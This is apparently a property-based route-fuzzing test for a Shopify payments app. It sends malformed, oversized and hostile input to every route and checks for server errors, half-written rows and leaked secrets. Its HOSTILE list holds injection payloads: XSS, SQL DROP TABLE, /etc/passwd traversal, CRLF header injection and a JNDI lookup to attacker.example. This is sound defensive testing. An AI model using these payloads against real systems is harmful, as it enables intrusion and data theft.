import { createHmac } from "node:crypto";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { startAccelebitSandbox, type AccelebitSandbox } from "../simulators/accelebit/server";
import { startShopifySimulator, type ShopifySimulator } from "../simulators/shopify";
import { createTestDatabase, type TestDatabase } from "../support/database";
import { TEST_API_SECRET, useAppEnv } from "../support/app-env";
import { callRoute, merchantCookieHeader } from "../support/shopify-auth";

/**
 * A route fuzzer: every route of the app (Shopify's session routes, the shopper pages, both
 * kinds of webhooks, the merchant pages, OAuth, /metrics, health) gets malformed, oversized,
 * wrongly typed and hostile input from a seeded property-based generator (fast-check), and
 * after every single request:
 *
 * - the answer is not a 5xx (an error thrown out of a route is one);
 * - an answer of 4xx changed no row of any table (nothing half-written);
 * - no secret (app secret, encryption key, tokens, Accelebit key, webhook secrets, metrics token,
 *   card numbers sent) is in the answer's body or headers, or in any log line written.
 *
 * FUZZ_RUNS sets the runs per property (default 40), FUZZ_SEED the seed (default 14); a
 * failure prints the seed and path to replay it. The total is printed at the end.
 */
const logs = vi.hoisted(() => ({ lines: [] as string[] }));
vi.mock("~/lib/logger", async (importOriginal) => {
  const original = await importOriginal<typeof import("~/lib/logger")>();
  return { ...original, logger: original.createLogger({ write: (line: string) => void logs.lines.push(line) } as never, "debug") };
});

const RUNS = Number(process.env.FUZZ_RUNS ?? 40);
const SEED = Number(process.env.FUZZ_SEED ?? 14);
const SHOP = "fuzz-shop.myshopify.com";
const ACCESS_TOKEN = "shpat_fuzz_access_token_0123456789";
const ACCELEBIT_KEY = "smtgw_sk_test_FuzzShopSecretKey0042";
const WEBHOOK_SECRET = "whsec_fuzz_webhook_secret_0123456789";
const ACCRUE_WEBHOOK_SECRET = "a1".repeat(32);
const METRICS_TOKEN = "metrics-token-fuzz-0123456789";
const DEV_SIGN_IN_SECRET = "dev-sign-in-secret-fuzz-0123456789";
const CARD_NUMBERS = ["4000000000000002", "4000000000003220", "4000000000003063", "4111111111111111", "5555555555554444"];

let database: TestDatabase;
let sandbox: AccelebitSandbox;
let shopify: ShopifySimulator;
let db: typeof import("~/db.server").db;
let webhookToken: string;
let accrueWebhookToken: string;
let secrets: string[];
let requests = 0;
const properties = new Set<string>();

type Route = { loader?: unknown; action?: unknown };
const routes: Record<string, Route> = {};

beforeAll(async () => {
  database = await createTestDatabase();
  sandbox = await startAccelebitSandbox();
  shopify = await startShopifySimulator();
  useAppEnv({
    DATABASE_URL: database.url,
    ACCELEBIT_API_URL: sandbox.url,
    SHOPIFY_PAYMENTS_API_ORIGIN: shopify.url,
    METRICS_TOKEN,
    DEV_SIGN_IN_SECRET,
    // The worker stays off: rows change only through the request being checked.
    WORKER: "off",
  });
  ({ db } = await import("~/db.server"));
  const { seedShop } = await import("~/merchants/seed-shop.server");
  const { secretBox } = await import("~/lib/secret-box.server");
  const shop = await seedShop(
    {
      shop: SHOP,
      accessToken: ACCESS_TOKEN,
      accelebitTestKey: ACCELEBIT_KEY,
      webhookSecret: WEBHOOK_SECRET,
      scopes: "write_payment_gateways,write_payment_sessions",
    },
    secretBox(),
  );
  webhookToken = shop.webhookToken;
  // Accrue's registration for the same shop (sandbox), as the setup page stores it.
  const { saveModeWebhooks, shopGateway } = await import("~/merchants/credentials.server");
  const { id: shopId } = await db().shop.findUniqueOrThrow({ where: { domain: SHOP } });
  await saveModeWebhooks(db(), secretBox(), shopId, "accrue", { test: { webhookId: "fuzz-webhook", secret: ACCRUE_WEBHOOK_SECRET } });
  accrueWebhookToken = (await shopGateway(db(), shopId, "accrue")).webhookToken;
  shopify.registerShop({ shop: SHOP, accessToken: ACCESS_TOKEN });
  secrets = [
    TEST_API_SECRET,
    process.env.ENCRYPTION_KEY!,
    ACCESS_TOKEN,
    ACCELEBIT_KEY,
    WEBHOOK_SECRET,
    ACCRUE_WEBHOOK_SECRET,
    METRICS_TOKEN,
    DEV_SIGN_IN_SECRET,
    ...CARD_NUMBERS,
  ];
  const files = (import.meta as ImportMeta & { glob: <T>(pattern: string, options: { eager: true }) => Record<string, T> }).glob<Route>(
    "../../app/routes/*.{ts,tsx}",
    {
      eager: true,
    },
  );
  for (const [file, module] of Object.entries(files)) routes[file.replace(/^.*\/routes\/(.*)\.tsx?$/, "$1")] = module;
  for (const method of ["log", "info", "warn", "error", "debug"] as const) {
    vi.spyOn(console, method).mockImplementation(
      (...args: unknown[]) => void logs.lines.push(args.map((a) => (a instanceof Error ? `${a.message}\n${a.stack}` : String(a))).join(" ")),
    );
  }
});

afterAll(async () => {
  vi.restoreAllMocks();
  process.stdout.write(`route fuzzer: ${requests} requests over ${properties.size} properties (FUZZ_RUNS=${RUNS} runs each, seed ${SEED})\n`);
  await db().$disconnect();
  await Promise.all([sandbox.close(), shopify.close()]);
  await database.drop();
});

// ─── What every request is checked for ───────────────────────────────────────────────

const TABLES = [
  "session",
  "shop",
  "shopSettings",
  "paymentSession",
  "sessionEvent",
  "paymentAttempt",
  "refundSession",
  "captureSession",
  "voidSession",
  "gatewayEvent",
  "job",
  "webhookDelivery",
  "complianceRequest",
] as const;

const rowCounts = () => Promise.all(TABLES.map((table) => (db()[table] as unknown as { count(): Promise<number> }).count()));

/** Calls a route as Remix would and checks the answer, the rows and the logs. */
async function check(route: string, kind: "loader" | "action", request: Request, params: Record<string, string> = {}): Promise<Response> {
  const fn = routes[route]?.[kind];
  expect(fn, `${route} has a ${kind}`).toBeTypeOf("function");
  requests += 1;
  const before = await rowCounts();
  const logsBefore = logs.lines.length;
  let response: Response;
  try {
    response = await callRoute(fn as never, request, params);
  } catch (error) {
    throw new Error(`${route} ${kind} ${request.method} ${request.url} threw (a 500): ${error instanceof Error ? error.stack : String(error)}`);
  }
  const body = await response.clone().text();
  expect(response.status, `${request.method} ${request.url} → ${response.status}: ${body.slice(0, 300)}`).toBeLessThan(500);
  if (response.status >= 400) expect(await rowCounts(), `${request.method} ${request.url} answered ${response.status} but changed rows`).toEqual(before);
  const headers = [...response.headers.entries()].map(([k, v]) => `${k}: ${v}`).join("\n");
  const written = logs.lines.slice(logsBefore).join("\n");
  for (const secret of secrets) {
    expect(body.includes(secret), `a secret in the answer of ${request.method} ${request.url}`).toBe(false);
    expect(headers.includes(secret), `a secret in the headers of ${request.method} ${request.url}`).toBe(false);
    expect(written.includes(secret), `a secret in the log after ${request.method} ${request.url}`).toBe(false);
  }
  return response;
}

function property<T>(name: string, arbitrary: fc.Arbitrary<T>, run: (value: T) => Promise<void>) {
  it(name, async () => {
    properties.add(name);
    await fc.assert(fc.asyncProperty(arbitrary, run), { numRuns: RUNS, seed: SEED, endOnFailure: true });
  });
}

// ─── Inputs ──────────────────────────────────────────────────────────────────────────

const HOSTILE = [
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  '\'; DROP TABLE "Shop"; --',
  "../../../../etc/passwd",
  "%2e%2e%2f%00",
  "\u0000",
  "\uffff\ud800",
  "\r\nSet-Cookie: injected=1",
  "${jndi:ldap://attacker.example/x}",
  "{{7*7}}",
  "__proto__",
  "constructor",
  "😀".repeat(40),
  "A".repeat(5000),
  "",
  " ",
  "null",
  "-1",
  "1e309",
  "NaN",
  "0x1F",
];
const hostile = fc.constantFrom(...HOSTILE);
const text = fc.oneof(fc.string({ maxLength: 30 }), fc.string({ unit: "grapheme", maxLength: 20 }), hostile);
const scalar = fc.oneof(text, fc.integer(), fc.double(), fc.boolean(), fc.constant(null));
const anyJson = fc.oneof(scalar, fc.array(scalar, { maxLength: 4 }), fc.dictionary(text, scalar, { maxKeys: 4 }), fc.jsonValue({ maxDepth: 3 }));
const oversized = fc.constantFrom(300 * 1024, 1024 * 1024 + 1).map((n) => "x".repeat(n));

/** A valid body with 1–3 fields removed, retyped or made hostile (keys a prototype attack would use included). */
function mutated(valid: Record<string, unknown>): fc.Arbitrary<Record<string, unknown>> {
  const keys = [...Object.keys(valid), "__proto__", "constructor", "extra"];
  const change = fc.record({ key: fc.constantFrom(...keys), drop: fc.boolean(), value: fc.oneof(anyJson, hostile) });
  return fc.array(change, { minLength: 1, maxLength: 3 }).map((changes) => {
    const body: Record<string, unknown> = JSON.parse(JSON.stringify(valid));
    for (const { key, drop, value } of changes) {
      if (drop) delete body[key];
      else Object.defineProperty(body, key, { value, enumerable: true, configurable: true, writable: true });
    }
    return body;
  });
}

/** A raw body: JSON of anything, a mutated valid body, bytes that are not JSON, or far too much. */
const rawBody = (valid: Record<string, unknown>) =>
  fc.oneof(
    { weight: 4, arbitrary: mutated(valid).map((b) => JSON.stringify(b)) },
    { weight: 2, arbitrary: anyJson.map((j) => JSON.stringify(j)) },
    { weight: 1, arbitrary: text },
    { weight: 1, arbitrary: fc.uint8Array({ maxLength: 64 }).map((bytes) => Buffer.from(bytes).toString("latin1")) },
    { weight: 1, arbitrary: oversized },
  );

const sessionHeaders = fc.record({
  shop: fc.oneof(
    { weight: 4, arbitrary: fc.constant(SHOP) },
    { weight: 1, arbitrary: fc.constantFrom("other.myshopify.com", "evil.example", "") },
    { weight: 1, arbitrary: hostile },
  ),
  requestId: fc.oneof(fc.uuid(), hostile),
  apiVersion: fc.oneof({ weight: 4, arbitrary: fc.constant("2026-04") }, { weight: 1, arbitrary: text }),
});

/** Lone surrogates replaced, as String.prototype.toWellFormed does (the lib target here predates it). */
function wellFormed(value: string): string {
  return value.replace(/[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g, "\ufffd");
}

function headerSafe(value: string): string {
  // Headers cannot carry controls or non-Latin-1; what a client can send is what reaches us.
  return value.replace(/[^\x20-\x7e]/g, "?").slice(0, 4000);
}

function jsonPost(path: string, headers: { shop: string; requestId: string; apiVersion: string }, body: string): Request {
  return new Request(`http://localhost:3999${path}`, {
    method: "POST",
    headers: {
      "Content-Type": "application/json",
      "Shopify-Shop-Domain": headerSafe(headers.shop),
      "Shopify-Request-Id": headerSafe(headers.requestId),
      "Shopify-Api-Version": headerSafe(headers.apiVersion),
    },
    body,
  });
}

// ─── The routes ──────────────────────────────────────────────────────────────────────

describe("route fuzzer", () => {
  const validPayment = () => shopify.createPaymentSession({ shop: SHOP, amount: "12.34", currency: "EUR" }).body as unknown as Record<string, unknown>;
  const validFinalized = (gidType: string, extra: Record<string, unknown>) => {
    const id = "FuzzSession000000000000A";
    return {
      id,
      gid: `gid://shopify/${gidType}/${id}`,
      payment_id: "FuzzPayment0000000000000",
      merchant_locale: "en",
      proposed_at: "2026-01-01T00:00:00Z",
      ...extra,
    };
  };

  const SESSION_ROUTES: [string, string, () => Record<string, unknown>][] = [
    ["shopify.payment", "/shopify/payment", validPayment],
    [
      "shopify.card.payment",
      "/shopify/card/payment",
      () => ({
        ...validPayment(),
        payment_method: {
          type: "credit_card",
          data: { fingerprint: "f".repeat(64), encrypted_message: "AAAA", ephemeral_public_key: "-----BEGIN PUBLIC KEY-----", tag: "AAAA" },
        },
      }),
    ],
    ["shopify.refund", "/shopify/refund", () => validFinalized("RefundSession", { amount: "1.00", currency: "EUR" })],
    ["shopify.capture", "/shopify/capture", () => validFinalized("CaptureSession", { amount: "1.00", currency: "EUR" })],
    ["shopify.void", "/shopify/void", () => validFinalized("VoidSession", {})],
    [
      "shopify.accrue.payment",
      "/shopify/accrue/payment",
      () => shopify.createPaymentSession({ shop: SHOP, amount: "12.34", currency: "USD" }).body as unknown as Record<string, unknown>,
    ],
    ["shopify.accrue.refund", "/shopify/accrue/refund", () => validFinalized("RefundSession", { amount: "1.00", currency: "USD" })],
    ["shopify.accrue.capture", "/shopify/accrue/capture", () => validFinalized("CaptureSession", { amount: "1.00", currency: "USD" })],
    ["shopify.accrue.void", "/shopify/accrue/void", () => validFinalized("VoidSession", {})],
    ["shopify.card.refund", "/shopify/card/refund", () => validFinalized("RefundSession", { amount: "1.00", currency: "EUR" })],
    ["shopify.card.capture", "/shopify/card/capture", () => validFinalized("CaptureSession", { amount: "1.00", currency: "EUR" })],
    ["shopify.card.void", "/shopify/card/void", () => validFinalized("VoidSession", {})],
    [
      "shopify.card.confirm",
      "/shopify/card/confirm",
      () => ({ id: "FuzzPayment0000000000000", gid: "gid://shopify/PaymentSession/FuzzPayment0000000000000", confirmation_result: true }),
    ],
  ];

  for (const [route, path, valid] of SESSION_ROUTES) {
    property(
      `${path}: malformed, wrongly typed, hostile and oversized requests`,
      fc.record({
        headers: sessionHeaders,
        body: fc.constant(null).chain(() => rawBody(valid())),
        method: fc.constantFrom("POST", "POST", "POST", "PUT", "DELETE"),
      }),
      async ({ headers, body, method }) => {
        const request = jsonPost(path, headers, body);
        await check(route, "action", method === "POST" ? request : new Request(request, { method }));
      },
    );
  }

  property("session routes: a GET is a 405", fc.constantFrom(...SESSION_ROUTES), async ([route, path]) => {
    expect((await check(route, "loader", new Request(`http://localhost:3999${path}`))).status).toBe(405);
  });

  /** A new payment session of the fuzz shop, as Shopify would send it: the shopper's page token. */
  async function freshShopperToken(): Promise<string> {
    const session = shopify.createPaymentSession({ shop: SHOP, amount: "20.00", currency: "EUR" });
    const res = await check(
      "shopify.payment",
      "action",
      jsonPost("/shopify/payment", { shop: SHOP, requestId: "fuzz", apiVersion: "2026-04" }, JSON.stringify(session.body)),
    );
    expect(res.status).toBe(201);
    return new URL(((await res.json()) as { redirect_url: string }).redirect_url).pathname.split("/").pop()!;
  }

  // A URL path holds only well-formed text: lone surrogates cannot reach a route.
  const token = fc.oneof(
    { weight: 3, arbitrary: fc.constant("fresh") },
    { weight: 1, arbitrary: fc.stringMatching(/^[A-Za-z0-9_-]{0,40}$/) },
    { weight: 1, arbitrary: hostile.map(wellFormed) },
  );
  const cardField = fc.oneof(fc.constantFrom(...CARD_NUMBERS), fc.stringMatching(/^[0-9 ]{0,25}$/), text);
  const cardForm = fc.record(
    {
      name: fc.oneof(fc.constant("Alice Smith"), text),
      number: cardField,
      expiry: fc.oneof(fc.constantFrom("12/39", "01/20", "13/40", "00/00", "1239"), text),
      cvc: fc.oneof(fc.constantFrom("123", "12", "12345"), text),
      extra: text,
    },
    { requiredKeys: [] },
  );
  const formBody = fc.oneof(
    { weight: 5, arbitrary: cardForm.map((fields) => new URLSearchParams(fields as Record<string, string>).toString()) },
    { weight: 1, arbitrary: text },
    { weight: 1, arbitrary: oversized },
  );

  property(
    "shopper card page: GET and card posts with malformed, hostile and oversized fields",
    fc.record({ token, body: formBody, get: fc.boolean() }),
    async (input) => {
      const value = input.token === "fresh" ? await freshShopperToken() : input.token;
      const url = `http://localhost:3999/pay/${encodeURIComponent(value)}`;
      if (input.get) await check("pay.$token", "loader", new Request(url), { token: value });
      const post = new Request(url, { method: "POST", headers: { "Content-Type": "application/x-www-form-urlencoded" }, body: input.body });
      await check("pay.$token", "action", post, { token: value });
    },
  );

  property(
    "shopper 3-D Secure returns and the card 3-D Secure page: any token, any query, GET or POST",
    fc.record({ token, query: text, route: fc.constantFrom("pay.$token.return", "card-3ds.$token", "card-3ds.$token.return"), post: fc.boolean() }),
    async (input) => {
      const value = input.token === "fresh" ? await freshShopperToken() : input.token;
      const base = input.route.startsWith("pay")
        ? `/pay/${encodeURIComponent(value)}/return`
        : `/card-3ds/${encodeURIComponent(value)}${input.route.endsWith("return") ? "/return" : ""}`;
      const url = `http://localhost:3999${base}?${new URLSearchParams({ status: "captured", q: input.query })}`;
      const kind = input.post && routes[input.route]?.action ? "action" : "loader";
      const request = kind === "action" ? new Request(url, { method: "POST", body: input.query }) : new Request(url);
      await check(input.route, kind, request, { token: value });
    },
  );

  const TOPICS = ["app/uninstalled", "customers/data_request", "customers/redact", "shop/redact", "orders/create", "APP_UNINSTALLED"];
  const webhookPayload = fc.oneof(
    anyJson,
    mutated({ shop_id: 1, shop_domain: SHOP, customer: { id: 1, email: "buyer@example.com" }, orders_to_redact: [1] }),
    mutated({ shop_id: 1, shop_domain: SHOP, customer: { id: 1 }, orders_requested: [1], data_request: { id: 2 } }),
    mutated({ shop_id: 1, shop_domain: "other-fuzz.myshopify.com" }),
    mutated({ id: 1, myshopify_domain: SHOP, domain: "shop.example" }),
  );

  property(
    "Shopify webhooks: signed and unsigned, any topic, shop, date and body",
    fc.record({
      topic: fc.oneof(fc.constantFrom(...TOPICS), text),
      shop: fc.oneof(fc.constantFrom(SHOP, "other-fuzz.myshopify.com"), text),
      payload: webhookPayload,
      raw: fc.option(fc.oneof(text, oversized), { freq: 5 }),
      signed: fc.boolean(),
      triggeredAt: fc.oneof(
        fc.constant(new Date().toISOString()),
        fc.date({ noInvalidDate: true }).map((d) => d.toISOString()),
        text,
      ),
      webhookId: fc.oneof(fc.uuid(), text),
    }),
    async (input) => {
      const raw = input.raw ?? JSON.stringify(input.payload);
      const hmac = createHmac("sha256", input.signed ? TEST_API_SECRET : "not-the-secret")
        .update(raw)
        .digest("base64");
      const request = new Request("http://localhost:3999/webhooks", {
        method: "POST",
        headers: {
          "Content-Type": "application/json",
          "X-Shopify-Topic": headerSafe(input.topic),
          "X-Shopify-Shop-Domain": headerSafe(input.shop),
          "X-Shopify-Webhook-Id": headerSafe(input.webhookId),
          "X-Shopify-Api-Version": "2026-04",
          "X-Shopify-Triggered-At": headerSafe(input.triggeredAt),
          "X-Shopify-Hmac-Sha256": hmac,
        },
        body: raw,
      });
      await check("webhooks", "action", request);
    },
  );

  property(
    "Accelebit webhooks: the shop's URL or another, signed or not, any payload",
    fc.record({
      useToken: fc.boolean(),
      otherToken: text.map(wellFormed),
      payload: fc.oneof(
        anyJson,
        mutated({
          id: "evt_fuzz",
          type: "payment.captured",
          createdAt: new Date().toISOString(),
          data: { id: "f47ac10b-58cc-4372-a567-0e02b2c3d479", status: "captured" },
        }),
        mutated({ event: "refund.created", data: { object: { id: "r1", transactionId: "p1" } } }),
      ),
      raw: fc.option(fc.oneof(text, oversized), { freq: 5 }),
      signed: fc.boolean(),
    }),
    async (input) => {
      const value = input.useToken ? webhookToken : input.otherToken;
      const raw = input.raw ?? JSON.stringify(input.payload);
      const signature = createHmac("sha256", input.signed ? WEBHOOK_SECRET : "whsec_wrong")
        .update(raw)
        .digest("hex");
      const request = new Request(`http://localhost:3999/webhooks/accelebit/${encodeURIComponent(value)}`, {
        method: "POST",
        headers: { "Content-Type": "application/json", "X-Accelebit-Signature": signature },
        body: raw,
      });
      await check("webhooks.accelebit.$token", "action", request, { token: value });
    },
  );

  property(
    "Accrue webhooks: the shop's URL or another, signed or not (raw or sha256=), any payload",
    fc.record({
      useToken: fc.boolean(),
      otherToken: text.map(wellFormed),
      payload: fc.oneof(
        anyJson,
        mutated({
          id: "0b6f7a52-8d7e-4c53-9f3e-5d1a2b3c4d5e",
          type: "WebhookEvent",
          attributes: { topic: "PaymentUpdated", createdAt: new Date().toISOString(), updatedAt: new Date().toISOString() },
          included: [{ id: "f47ac10b-58cc-4372-a567-0e02b2c3d479", type: "Payment" }],
        }),
        mutated({ id: "evt-2", type: "WebhookEvent", attributes: { topic: "RefundUpdated" }, included: [] }),
        mutated({ data: { id: "evt-3", type: "WebhookEvent", attributes: { topic: "SomethingNew" } } }),
      ),
      raw: fc.option(fc.oneof(text, oversized), { freq: 5 }),
      signed: fc.boolean(),
      prefixed: fc.boolean(),
    }),
    async (input) => {
      const value = input.useToken ? accrueWebhookToken : input.otherToken;
      const raw = input.raw ?? JSON.stringify(input.payload);
      const digest = createHmac("sha256", input.signed ? ACCRUE_WEBHOOK_SECRET : "b2".repeat(32))
        .update(raw)
        .digest("hex");
      const request = new Request(`http://localhost:3999/webhooks/accrue/${encodeURIComponent(value)}`, {
        method: "POST",
        headers: { "Content-Type": "application/vnd.api+json", "x-accrue-signature": input.prefixed ? `sha256=${digest}` : digest },
        body: raw,
      });
      await check("webhooks.accrue.$token", "action", request, { token: value });
    },
  );

  const MERCHANT_PAGES: [string, string, boolean][] = [
    ["app", "/app", false],
    ["app._index", "/app", true],
    ["app.transactions._index", "/app/transactions", false],
    ["app.transactions.$id", "/app/transactions/", true],
    ["app.transactions.export[.csv]", "/app/transactions/export.csv", false],
  ];

  property(
    "merchant pages: any query, form and origin, signed in or not",
    fc.record({
      page: fc.constantFrom(...MERCHANT_PAGES),
      query: fc.dictionary(fc.constantFrom("status", "mode", "from", "to", "q", "after", "before", "shop", "host", "embedded", "id_token", "index"), text, {
        maxKeys: 4,
      }),
      id: text.map(wellFormed),
      signedIn: fc.boolean(),
      origin: fc.constantFrom("same", "other", "none"),
      form: fc.oneof(
        fc
          .dictionary(
            fc.constantFrom(
              "testApiKey",
              "liveApiKey",
              "webhookSecret",
              "removeLiveKey",
              "intent",
              "jobId",
              "accrueTestClientId",
              "accrueTestClientSecret",
              "accrueLiveClientId",
              "accrueLiveClientSecret",
              "removeAccrueLive",
            ),
            fc.oneof(text, fc.constantFrom("accrue", "accelebit", "on")),
            { maxKeys: 4 },
          )
          .map((f) => new URLSearchParams(f).toString()),
        oversized,
      ),
      post: fc.boolean(),
    }),
    async (input) => {
      const [route, path, hasAction] = input.page;
      const id = path.endsWith("/") ? input.id : "";
      const url = `http://localhost:3999${path}${encodeURIComponent(id)}?${new URLSearchParams(input.query)}`;
      const headers = new Headers();
      if (input.signedIn) headers.set("Cookie", merchantCookieHeader(SHOP));
      if (input.origin !== "none") headers.set("Origin", input.origin === "same" ? "http://localhost:3999" : "https://evil.example");
      const post = hasAction && input.post;
      const request = post
        ? new Request(url, {
            method: "POST",
            headers: { ...Object.fromEntries(headers), "Content-Type": "application/x-www-form-urlencoded" },
            body: input.form,
          })
        : new Request(url, { headers });
      await check(route, post ? "action" : "loader", request, { id });
    },
  );

  property(
    "login, OAuth, the demo sign-in and the index: any query and form",
    fc.record({
      route: fc.constantFrom("auth.login", "auth.$", "dev.sign-in", "_index"),
      path: fc.constantFrom("", "callback", "login", "exit-iframe"),
      query: fc.dictionary(fc.constantFrom("shop", "code", "state", "hmac", "host", "timestamp", "secret"), text, { maxKeys: 5 }),
      form: fc.oneof(
        text.map((shop) => new URLSearchParams({ shop }).toString()),
        text,
        oversized,
      ),
      post: fc.boolean(),
    }),
    async (input) => {
      const base =
        input.route === "auth.$" ? `/auth/${input.path}` : input.route === "auth.login" ? "/auth/login" : input.route === "dev.sign-in" ? "/dev/sign-in" : "/";
      const url = `http://localhost:3999${base}?${new URLSearchParams(input.query)}`;
      const post = input.post && input.route === "auth.login";
      const request = post
        ? new Request(url, { method: "POST", headers: { "Content-Type": "application/x-www-form-urlencoded" }, body: input.form })
        : new Request(url);
      await check(input.route, post ? "action" : "loader", request, { "*": input.path });
    },
  );

  property(
    "/metrics, /healthz and /readyz: any Authorization header",
    fc.record({
      route: fc.constantFrom("metrics", "healthz", "readyz"),
      authorization: fc.option(fc.oneof(text, fc.constant(`Bearer ${"x".repeat(METRICS_TOKEN.length)}`))),
    }),
    async (input) => {
      const headers: Record<string, string> = input.authorization === null ? {} : { Authorization: headerSafe(input.authorization) };
      const res = await check(input.route, "loader", new Request(`http://localhost:3999/${input.route}`, { headers }));
      if (input.route === "metrics") expect(res.status).toBe(401);
    },
  );

  it("the checks themselves catch a thrown error, a 5xx, a half-written 4xx and a leaked secret", async () => {
    const request = () => new Request("http://localhost:3999/self-test", { method: "POST" });
    routes["self-test.throws"] = { action: () => Promise.reject(new Error("boom")) };
    routes["self-test.500"] = { action: () => new Response("oops", { status: 503 }) };
    routes["self-test.partial"] = {
      action: async () => {
        await db().webhookDelivery.create({ data: { webhookId: `self-test-${Date.now()}`, topic: "t", shopDomain: SHOP } });
        return new Response("refused", { status: 422 });
      },
    };
    routes["self-test.leak"] = { action: () => new Response(`token ${ACCESS_TOKEN}`, { status: 200 }) };
    routes["self-test.log"] = {
      action: () => {
        logs.lines.push(`card ${CARD_NUMBERS[0]}`);
        return new Response("ok");
      },
    };
    try {
      await expect(check("self-test.throws", "action", request())).rejects.toThrow("threw (a 500)");
      await expect(check("self-test.500", "action", request())).rejects.toThrow("→ 503");
      await expect(check("self-test.partial", "action", request())).rejects.toThrow("answered 422 but changed rows");
      await expect(check("self-test.leak", "action", request())).rejects.toThrow("a secret in the answer");
      await expect(check("self-test.log", "action", request())).rejects.toThrow("a secret in the log");
    } finally {
      for (const name of Object.keys(routes)) if (name.startsWith("self-test.")) delete routes[name];
      await db().webhookDelivery.deleteMany({ where: { webhookId: { startsWith: "self-test-" } } });
      requests -= 5;
    }
  });

  it("reaches every route of the app", () => {
    const fuzzed = new Set([
      ...SESSION_ROUTES.map(([route]) => route),
      "pay.$token",
      "pay.$token.return",
      "card-3ds.$token",
      "card-3ds.$token.return",
      "webhooks",
      "webhooks.accelebit.$token",
      "webhooks.accrue.$token",
      ...MERCHANT_PAGES.map(([route]) => route),
      "auth.login",
      "auth.$",
      "dev.sign-in",
      "_index",
      "metrics",
      "healthz",
      "readyz",
    ]);
    expect(Object.keys(routes).sort()).toEqual([...fuzzed].sort());
  });
});
